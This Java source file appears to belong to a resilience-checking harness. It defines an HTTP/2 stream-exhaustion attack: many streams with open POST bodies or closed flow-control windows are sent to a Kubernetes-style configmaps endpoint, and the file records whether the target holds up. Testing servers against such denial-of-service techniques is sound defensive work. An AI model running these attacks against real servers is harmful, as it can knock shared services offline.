package dev.tenure.checks.attack;

import java.io.IOException;
import java.util.List;

/// Streams of HTTP/2 on one connection that are begun and not gone on with.
///
/// @param count of streams
record OpenStreams(Kind kind, int count) implements Attack {
    private static final int ANSWER_MILLIS = 5_000;
    private static final String MAPS = "/api/v1/namespaces/default/configmaps";

    enum Kind {
        OPEN_BODIES("POSTs of a stranger with open bodies on one connection"),
        CLOSED_WINDOWS("reads with closed windows on one connection");

        private final String words;

        Kind(String words) {
            this.words = words;
        }
    }

    @Override
    public String name() {
        return count + " " + kind.words;
    }

    @Override
    public Siege begin(Victim victim) throws IOException {
        Streams streams = Streams.open(victim, kind == Kind.OPEN_BODIES ? 65_535 : 0);
        for (int i = 0; i < count; i++) {
            switch (kind) {
                case OPEN_BODIES -> streams.request("POST", MAPS, "", false);
                case CLOSED_WINDOWS -> streams.request("GET", MAPS, victim.ann(), true);
            }
        }
        return new Siege() {
            @Override
            public Held held() {
                return switch (kind) {
                    case OPEN_BODIES -> refused(streams);
                    case CLOSED_WINDOWS -> new Held(true, "");
                };
            }

            @Override
            public void close() {
                streams.close();
            }
        };
    }

    private Held refused(Streams streams) {
        try {
            List<Integer> ends = streams.ends(count, ANSWER_MILLIS);
            return new Held(ends.size() == count, ends.size() + " were answered");
        } catch (IOException e) {
            return new Held(true, "the connection was ended: " + e.getMessage());
        }
    }
}
